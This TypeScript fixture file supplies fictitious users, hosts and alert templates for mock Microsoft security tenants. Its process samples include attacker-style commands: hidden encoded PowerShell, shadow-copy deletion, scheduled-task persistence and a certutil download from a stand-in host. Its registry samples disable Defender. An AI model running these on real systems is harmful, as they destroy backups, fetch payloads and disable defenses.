/**
 * Realistic building blocks for generated tenants. Names follow Microsoft's fictitious
 * companies (Contoso, Fabrikam, Woodgrove); IP addresses come only from the documentation
 * ranges 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24; technique ids are real MITRE ATT&CK ids.
 */

export const DOMAINS = ['contoso.com', 'fabrikam.com', 'woodgrovebank.com'] as const;
export const TENANT_DOMAIN = 'contoso.onmicrosoft.com';
export const NETBIOS = ['CONTOSO', 'FABRIKAM', 'WOODGROVE'] as const;

export const FIRST_NAMES = [
	'Adele',
	'Alex',
	'Allan',
	'Bianca',
	'Christie',
	'Debra',
	'Diego',
	'Emily',
	'Enrico',
	'Grady',
	'Henrietta',
	'Isaiah',
	'Johanna',
	'Joni',
	'Lee',
	'Lidia',
	'Lynne',
	'Megan',
	'Miriam',
	'Nestor',
	'Patti',
	'Pradeep',
	'Raul',
	'Sofia',
	'Teodor',
	'Yuki',
] as const;
export const LAST_NAMES = [
	'Vance',
	'Wilber',
	'Deyoung',
	'Pisani',
	'Cline',
	'Berg',
	'Siciliani',
	'Braun',
	'Gianni',
	'Archie',
	'Harris',
	'Langer',
	'Lauer',
	'Sherman',
	'Gu',
	'Holloway',
	'Robbins',
	'Bowen',
	'Wilkins',
	'Patel',
	'Fernandez',
	'Tanaka',
	'Kowalski',
	'Moreau',
	'Okafor',
	'Lindqvist',
] as const;

export const DEVICE_PREFIXES = [
	'desktop',
	'laptop',
	'srv',
	'ws',
	'dc',
	'sql',
	'web',
	'build',
] as const;
export const OS_PLATFORMS = [
	{ osPlatform: 'Windows11', version: '23H2', osBuild: 22631 },
	{ osPlatform: 'Windows11', version: '24H2', osBuild: 26100 },
	{ osPlatform: 'Windows10', version: '22H2', osBuild: 19045 },
	{ osPlatform: 'WindowsServer2022', version: '21H2', osBuild: 20348 },
	{ osPlatform: 'WindowsServer2019', version: '1809', osBuild: 17763 },
	{ osPlatform: 'WindowsServer2016', version: '1607', osBuild: 14393 },
	{ osPlatform: 'Linux', version: 'Ubuntu 22.04', osBuild: 0 },
	{ osPlatform: 'macOS', version: '14.5', osBuild: 0 },
] as const;
export const RBAC_GROUPS = [
	{ id: 75, name: 'UnassignedGroup' },
	{ id: 101, name: 'Workstations' },
	{ id: 102, name: 'Servers' },
	{ id: 103, name: 'Domain Controllers' },
] as const;

export const DOC_IP_PREFIXES = ['192.0.2.', '198.51.100.', '203.0.113.'] as const;

export const COUNTRIES = [
	{
		code: 'US',
		name: 'United States',
		city: 'Seattle',
		state: 'Washington',
		lat: 47.61,
		lon: -122.33,
	},
	{
		code: 'NL',
		name: 'Netherlands',
		city: 'Amsterdam',
		state: 'North Holland',
		lat: 52.37,
		lon: 4.9,
	},
	{ code: 'DE', name: 'Germany', city: 'Frankfurt', state: 'Hesse', lat: 50.11, lon: 8.68 },
	{ code: 'BR', name: 'Brazil', city: 'Sao Paulo', state: 'Sao Paulo', lat: -23.55, lon: -46.63 },
	{ code: 'SG', name: 'Singapore', city: 'Singapore', state: 'Singapore', lat: 1.35, lon: 103.82 },
	{ code: 'RU', name: 'Russia', city: 'Moscow', state: 'Moscow', lat: 55.76, lon: 37.62 },
] as const;

/** Malicious-looking but non-existent hosts under the reserved `.example` / `.test` TLDs. */
export const BAD_HOSTS = [
	'login-micros0ft.example',
	'contoso-payroll.example',
	'cdn-update.test',
	'invoice-share.example',
	'secure-docs.test',
	'fabrikam-sso.example',
] as const;

export const FILES = [
	{ name: 'invoice_0423.docm', path: 'C:\\Users\\{user}\\Downloads', publisher: null, size: 48213 },
	{ name: 'update.ps1', path: 'C:\\ProgramData\\Temp', publisher: null, size: 2315 },
	{ name: 'mimikatz.exe', path: 'C:\\Users\\Public', publisher: null, size: 1355680 },
	{ name: 'svch0st.exe', path: 'C:\\Windows\\Temp', publisher: null, size: 734208 },
	{
		name: 'payload.dll',
		path: 'C:\\Users\\{user}\\AppData\\Local\\Temp',
		publisher: null,
		size: 215040,
	},
	{ name: 'rclone.exe', path: 'C:\\PerfLogs', publisher: null, size: 52428800 },
	{
		name: 'AnyDesk.exe',
		path: 'C:\\Users\\{user}\\Downloads',
		publisher: 'AnyDesk Software GmbH',
		size: 5189632,
	},
	{
		name: 'MsSense.exe',
		path: 'C:\\Program Files\\Windows Defender Advanced Threat Protection',
		publisher: 'Microsoft Corporation',
		size: 6136392,
	},
] as const;

export const PROCESSES = [
	{
		name: 'powershell.exe',
		path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
		cmd: 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
	},
	{ name: 'cmd.exe', path: 'C:\\Windows\\System32', cmd: 'cmd.exe /c whoami /all > %TEMP%\\w.txt' },
	{
		name: 'rundll32.exe',
		path: 'C:\\Windows\\System32',
		cmd: 'rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer',
	},
	{
		name: 'wmic.exe',
		path: 'C:\\Windows\\System32\\wbem',
		cmd: 'wmic shadowcopy delete /nointeractive',
	},
	{
		name: 'schtasks.exe',
		path: 'C:\\Windows\\System32',
		cmd: 'schtasks /create /tn "OneDrive Updater" /tr C:\\ProgramData\\Temp\\update.ps1 /sc onlogon',
	},
	{
		name: 'certutil.exe',
		path: 'C:\\Windows\\System32',
		cmd: 'certutil.exe -urlcache -split -f http://cdn-update.test/a.bin a.bin',
	},
] as const;
export const PARENT_PROCESSES = [
	{ name: 'explorer.exe', path: 'C:\\Windows' },
	{ name: 'WINWORD.EXE', path: 'C:\\Program Files\\Microsoft Office\\root\\Office16' },
	{ name: 'services.exe', path: 'C:\\Windows\\System32' },
	{ name: 'wmiprvse.exe', path: 'C:\\Windows\\System32\\wbem' },
] as const;

export const REGISTRY_KEYS = [
	{
		hive: 'HKEY_CURRENT_USER',
		key: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
		name: 'OneDriveUpdate',
		value: 'C:\\ProgramData\\Temp\\update.ps1',
		type: 'String',
	},
	{
		hive: 'HKEY_LOCAL_MACHINE',
		key: 'SYSTEM\\CurrentControlSet\\Services\\WinDefend',
		name: 'Start',
		value: '4',
		type: 'Dword',
	},
	{
		hive: 'HKEY_LOCAL_MACHINE',
		key: 'SOFTWARE\\Policies\\Microsoft\\Windows Defender',
		name: 'DisableAntiSpyware',
		value: '1',
		type: 'Dword',
	},
	{
		hive: 'HKEY_LOCAL_MACHINE',
		key: 'SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER',
		name: 'Start',
		value: '0',
		type: 'Dword',
	},
] as const;

export const CLOUD_APPS = [
	{ appId: 11161, name: 'Office 365', saas: 11161 },
	{ appId: 15600, name: 'Microsoft OneDrive for Business', saas: 15600 },
	{ appId: 20893, name: 'Microsoft SharePoint Online', saas: 20893 },
	{ appId: 28375, name: 'Microsoft Teams', saas: 28375 },
	{ appId: 11599, name: 'Dropbox', saas: 11599 },
	{ appId: 10489, name: 'Box', saas: 10489 },
] as const;
export const OAUTH_APPS = [
	{ name: 'Mail Sync Pro', publisher: 'Fabrikam Apps' },
	{ name: 'PDF Converter Online', publisher: 'Unverified' },
	{ name: 'Contoso HR Connector', publisher: 'Contoso' },
] as const;

export const MALWARE = [
	{ name: 'Trojan:Win32/Emotet.RPX!MTB', family: 'Emotet', category: 'Trojan' },
	{ name: 'Ransom:Win32/LockBit.PA!MTB', family: 'LockBit', category: 'Ransomware' },
	{ name: 'HackTool:Win32/Mimikatz.D', family: 'Mimikatz', category: 'HackTool' },
	{ name: 'Backdoor:Win32/CobaltStrike.MK!MTB', family: 'CobaltStrike', category: 'Backdoor' },
	{ name: 'TrojanDownloader:O97M/Qakbot.RVA!MTB', family: 'Qakbot', category: 'TrojanDownloader' },
] as const;

export const ACTORS = [
	'Storm-0501',
	'Octo Tempest',
	'Midnight Blizzard',
	'Mint Sandstorm',
] as const;

export interface AlertTemplate {
	title: string;
	category: string;
	mitre: string[];
	description: string;
	recommendedActions: string;
	/** Present for malware-family alerts. */
	threat?: boolean;
}

const RECOMMEND_ENDPOINT =
	'Collect artifacts and determine scope. Review the machine timeline for suspicious activities, isolate the device if needed and run a full antivirus scan.';
const RECOMMEND_IDENTITY =
	'Review the user account activity, reset the password and revoke sessions if the activity is not expected, and require MFA re-registration.';
const RECOMMEND_MAIL =
	'Review the message in Explorer, purge similar messages with soft delete and block the sender domain if needed.';
const RECOMMEND_CLOUD =
	'Review the resource activity log, rotate exposed keys and restrict network access to the resource.';

export const TEMPLATES: Record<string, AlertTemplate[]> = {
	microsoftDefenderForEndpoint: [
		{
			title: 'Suspicious execution of hidden file',
			category: 'DefenseEvasion',
			mitre: ['T1564.001'],
			description:
				'A hidden file has been launched. This activity could indicate a compromised host. Attackers often hide files associated with malicious tools to evade file system inspection and defenses.',
			recommendedActions: RECOMMEND_ENDPOINT,
		},
		{
			title: 'Suspicious PowerShell command line',
			category: 'Execution',
			mitre: ['T1059.001', 'T1027'],
			description:
				'A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.',
			recommendedActions: RECOMMEND_ENDPOINT,
		},
		{
			title: "'Emotet' malware was detected",
			category: 'Malware',
			mitre: ['T1204.002'],
			description:
				'Emotet malware was detected on the device. Antivirus blocked the file but the device may still be compromised.',
			recommendedActions: RECOMMEND_ENDPOINT,
			threat: true,
		},
		{
			title: 'Possible credential theft from LSASS memory',
			category: 'CredentialAccess',
			mitre: ['T1003.001'],
			description:
				'A process accessed the memory of the Local Security Authority Subsystem Service (LSASS) in a way that may indicate credential dumping.',
			recommendedActions: RECOMMEND_ENDPOINT,
		},
		{
			title: 'Ransomware behavior detected in the file system',
			category: 'Ransomware',
			mitre: ['T1486', 'T1490'],
			description:
				'Multiple files were encrypted and volume shadow copies were deleted in a short period of time.',
			recommendedActions: RECOMMEND_ENDPOINT,
			threat: true,
		},
		{
			title: 'Anomalous scheduled task created',
			category: 'Persistence',
			mitre: ['T1053.005', 'T1547.001'],
			description: 'A scheduled task that runs a script from an unusual location was created.',
			recommendedActions: RECOMMEND_ENDPOINT,
		},
	],
	microsoftDefenderForIdentity: [
		{
			title: 'Suspected Kerberos SPN exposure',
			category: 'CredentialAccess',
			mitre: ['T1558.003'],
			description:
				'An actor requested Kerberos service tickets for multiple service accounts, which may indicate Kerberoasting.',
			recommendedActions: RECOMMEND_IDENTITY,
		},
		{
			title: 'Suspected DCSync attack (replication of directory services)',
			category: 'CredentialAccess',
			mitre: ['T1003.006'],
			description:
				'A replication request was initiated from a computer that is not a domain controller.',
			recommendedActions: RECOMMEND_IDENTITY,
		},
		{
			title: 'Account enumeration reconnaissance',
			category: 'Discovery',
			mitre: ['T1087.002', 'T1069.002'],
			description: 'An actor enumerated domain accounts and groups using LDAP queries.',
			recommendedActions: RECOMMEND_IDENTITY,
		},
	],
	microsoftDefenderForCloudApps: [
		{
			title: 'Impossible travel activity',
			category: 'InitialAccess',
			mitre: ['T1078.004'],
			description:
				'The same user signed in from two distant locations within a time period shorter than the travel time between them.',
			recommendedActions: RECOMMEND_IDENTITY,
		},
		{
			title: 'Mass download by a single user',
			category: 'Exfiltration',
			mitre: ['T1530', 'T1567.002'],
			description:
				'A user downloaded an unusual number of files from cloud storage in a single session.',
			recommendedActions: RECOMMEND_IDENTITY,
		},
		{
			title: 'Suspicious inbox forwarding rule',
			category: 'Collection',
			mitre: ['T1114.003'],
			description: 'A user created an inbox rule that forwards all email to an external address.',
			recommendedActions: RECOMMEND_MAIL,
		},
	],
	microsoftDefenderForOffice365: [
		{
			title: 'Email messages containing malicious URL removed after delivery',
			category: 'InitialAccess',
			mitre: ['T1566.002'],
			description:
				'Emails with a malicious URL were delivered and later removed by zero-hour auto purge.',
			recommendedActions: RECOMMEND_MAIL,
		},
		{
			title: 'Email messages containing malware removed after delivery',
			category: 'InitialAccess',
			mitre: ['T1566.001'],
			description: 'Emails containing a malicious attachment were delivered and later removed.',
			recommendedActions: RECOMMEND_MAIL,
			threat: true,
		},
		{
			title: 'User-reported phishing message',
			category: 'InitialAccess',
			mitre: ['T1566'],
			description: 'A user reported a message as phishing and the message was confirmed malicious.',
			recommendedActions: RECOMMEND_MAIL,
		},
		{
			title: 'Suspicious Teams message with a malicious link',
			category: 'InitialAccess',
			mitre: ['T1566.002'],
			description: 'A Teams chat message contained a URL that was later classified as malicious.',
			recommendedActions: RECOMMEND_MAIL,
		},
	],
	microsoft365Defender: [
		{
			title: 'Possible adversary-in-the-middle (AiTM) phishing attempt',
			category: 'CredentialAccess',
			mitre: ['T1557', 'T1539'],
			description:
				'A sign-in session cookie was likely stolen through an AiTM phishing site and replayed.',
			recommendedActions: RECOMMEND_IDENTITY,
		},
		{
			title: 'Human-operated ransomware attack was launched',
			category: 'Ransomware',
			mitre: ['T1486', 'T1021.002'],
			description:
				'Correlated signals indicate an active human-operated ransomware attack across multiple devices.',
			recommendedActions: RECOMMEND_ENDPOINT,
			threat: true,
		},
	],
	azureAdIdentityProtection: [
		{
			title: 'Password spray',
			category: 'CredentialAccess',
			mitre: ['T1110.003'],
			description:
				'Multiple usernames were attacked using common passwords in a unified brute-force manner.',
			recommendedActions: RECOMMEND_IDENTITY,
		},
		{
			title: 'Anomalous token',
			category: 'InitialAccess',
			mitre: ['T1550.001'],
			description:
				'A token with abnormal characteristics, such as an unusual lifetime or unfamiliar location, was used.',
			recommendedActions: RECOMMEND_IDENTITY,
		},
		{
			title: 'MFA fatigue attempt',
			category: 'CredentialAccess',
			mitre: ['T1621'],
			description: 'A high number of MFA requests were sent to a user in a short period.',
			recommendedActions: RECOMMEND_IDENTITY,
		},
	],
	microsoftAppGovernance: [
		{
			title: 'App with suspicious OAuth scope accessed mail',
			category: 'Collection',
			mitre: ['T1114.002', 'T1528'],
			description:
				'An OAuth app with high-privilege mail scopes made an unusual volume of Graph calls to read mail.',
			recommendedActions:
				'Review the app permissions, disable the app and revoke its consent if it is not expected.',
		},
		{
			title: 'Newly created app with unusual consent pattern',
			category: 'Persistence',
			mitre: ['T1098'],
			description: 'A newly registered app received consent from many users in a short time.',
			recommendedActions:
				'Review the app publisher and consent grants, and disable the app if it is not expected.',
		},
	],
	dataLossPrevention: [
		{
			title: 'DLP policy match: credit card numbers shared externally',
			category: 'Exfiltration',
			mitre: ['T1048'],
			description:
				'A document containing credit card numbers was shared with an external recipient.',
			recommendedActions:
				'Review the shared content and revoke external access if the share is not expected.',
		},
		{
			title: 'DLP policy match: sensitive file uploaded to personal cloud storage',
			category: 'Exfiltration',
			mitre: ['T1567.002'],
			description: 'A file labelled Confidential was uploaded to a personal cloud storage service.',
			recommendedActions: 'Contact the user and review the uploaded content.',
		},
	],
	microsoftDefenderForCloud: [
		{
			title: 'Suspicious access to a storage account using a SAS token',
			category: 'Collection',
			mitre: ['T1530'],
			description:
				'A storage account was accessed from an unusual IP address with a long-lived SAS token.',
			recommendedActions: RECOMMEND_CLOUD,
		},
		{
			title: 'Privileged container detected',
			category: 'PrivilegeEscalation',
			mitre: ['T1611', 'T1610'],
			description: 'A container was started with privileged mode in a Kubernetes cluster.',
			recommendedActions: RECOMMEND_CLOUD,
		},
		{
			title: 'Digital currency mining activity',
			category: 'Impact',
			mitre: ['T1496'],
			description:
				'Processes associated with cryptocurrency mining were detected on a cloud workload.',
			recommendedActions: RECOMMEND_CLOUD,
		},
	],
	microsoftSentinel: [
		{
			title: 'Rare RDP connections',
			category: 'LateralMovement',
			mitre: ['T1021.001'],
			description:
				'A scheduled analytics rule detected RDP connections between hosts that do not usually communicate.',
			recommendedActions: 'Investigate the source host and the account used for the connections.',
		},
		{
			title: 'Known malicious IP address in firewall logs',
			category: 'CommandAndControl',
			mitre: ['T1071.001'],
			description: 'Firewall logs show traffic to an IP address from a threat intelligence feed.',
			recommendedActions: 'Block the address at the perimeter and review affected hosts.',
		},
	],
	microsoftInsiderRiskManagement: [
		{
			title: 'Data theft by departing user',
			category: 'Exfiltration',
			mitre: ['T1020'],
			description:
				'A user with a resignation date downloaded and copied an unusual volume of sensitive files.',
			recommendedActions: 'Review the user activity in Insider Risk Management and contact HR.',
		},
	],
	microsoftThreatIntelligence: [
		{
			title: 'Activity from a known threat actor infrastructure',
			category: 'CommandAndControl',
			mitre: ['T1071.001', 'T1105'],
			description: 'Network traffic matched infrastructure attributed to a tracked threat actor.',
			recommendedActions: 'Review the threat intelligence profile and block the indicators.',
		},
	],
	microsoftSecurityForAI: [
		{
			title: 'Jailbreak attempt on an AI agent detected',
			category: 'InitialAccess',
			mitre: ['T1190'],
			description: 'A prompt attempted to bypass the safety instructions of a deployed AI agent.',
			recommendedActions:
				'Review the agent conversation and restrict access to the agent if needed.',
		},
		{
			title: 'Sensitive data exposed through an AI agent response',
			category: 'Exfiltration',
			mitre: ['T1213'],
			description: 'An AI agent returned content with sensitive information types to a user.',
			recommendedActions: 'Review the agent grounding data and its access permissions.',
		},
	],
	unknown: [
		{
			title: 'Suspicious activity',
			category: 'SuspiciousActivity',
			mitre: [],
			description: 'Suspicious activity was detected.',
			recommendedActions: 'Review the related entities.',
		},
	],
};

export const PRODUCT_NAMES: Record<string, string | null> = {
	microsoftDefenderForEndpoint: 'Microsoft Defender for Endpoint',
	microsoftDefenderForIdentity: 'Microsoft Defender for Identity',
	microsoftDefenderForCloudApps: 'Microsoft Defender for Cloud Apps',
	microsoftDefenderForOffice365: 'Microsoft Defender for Office 365',
	microsoft365Defender: 'Microsoft Defender XDR',
	azureAdIdentityProtection: 'Microsoft Entra ID Protection',
	microsoftAppGovernance: 'App governance',
	dataLossPrevention: 'Microsoft Data Loss Prevention',
	microsoftDefenderForCloud: 'Microsoft Defender for Cloud',
	microsoftSentinel: 'Microsoft Sentinel',
	microsoftInsiderRiskManagement: 'Microsoft Insider Risk Management',
	microsoftThreatIntelligence: 'Microsoft Defender Threat Intelligence',
	microsoftSecurityForAI: 'Microsoft Security for AI',
	unknown: null,
};

/** detectionSource values plausible for each serviceSource (graph-api.md §2.2). */
export const DETECTION_SOURCES: Record<string, string[]> = {
	microsoftDefenderForEndpoint: [
		'microsoftDefenderForEndpoint',
		'antivirus',
		'smartScreen',
		'customTi',
		'automatedInvestigation',
		'customDetection',
		'microsoftThreatExperts',
	],
	microsoftDefenderForIdentity: ['microsoftDefenderForIdentity'],
	microsoftDefenderForCloudApps: ['cloudAppSecurity'],
	microsoftDefenderForOffice365: ['microsoftDefenderForOffice365', 'manual'],
	microsoft365Defender: ['microsoft365Defender', 'customDetection'],
	azureAdIdentityProtection: ['azureAdIdentityProtection'],
	microsoftAppGovernance: ['appGovernancePolicy', 'appGovernanceDetection'],
	dataLossPrevention: ['microsoftDataLossPrevention'],
	microsoftDefenderForCloud: [
		'microsoftDefenderForServers',
		'microsoftDefenderForStorage',
		'microsoftDefenderForContainers',
		'microsoftDefenderForKeyVault',
		'microsoftDefenderForDNS',
		'microsoftDefenderForDatabases',
		'microsoftDefenderForResourceManager',
		'microsoftDefenderForAppService',
		'microsoftDefenderForNetwork',
		'microsoftDefenderForApiManagement',
		'microsoftDefenderForIoT',
		'microsoftDefenderForCloud',
	],
	microsoftSentinel: ['scheduledAlerts', 'nrtAlerts', 'builtInMl', 'microsoftSentinel'],
	microsoftInsiderRiskManagement: ['microsoftInsiderRiskManagement'],
	microsoftThreatIntelligence: [
		'microsoftThreatIntelligence',
		'microsoftDefenderThreatIntelligenceAnalytics',
	],
	microsoftSecurityForAI: ['microsoftDefenderForAIServices', 'securityCopilot'],
	unknown: ['unknown'],
};

/** Two-character id prefixes per product (MDE ids are `da<digits>_<int>`, graph-api.md §2.1). */
export const ID_PREFIXES: Record<string, string> = {
	microsoftDefenderForIdentity: 'aa',
	microsoftDefenderForCloudApps: 'ca',
	microsoftDefenderForOffice365: 'fa',
	microsoft365Defender: 'ed',
	azureAdIdentityProtection: 'ad',
	microsoftAppGovernance: 'ag',
	dataLossPrevention: 'dl',
	microsoftDefenderForCloud: 'dc',
	microsoftSentinel: 'sn',
	microsoftInsiderRiskManagement: 'ir',
	microsoftThreatIntelligence: 'ti',
	microsoftSecurityForAI: 'ai',
	unknown: 'un',
};
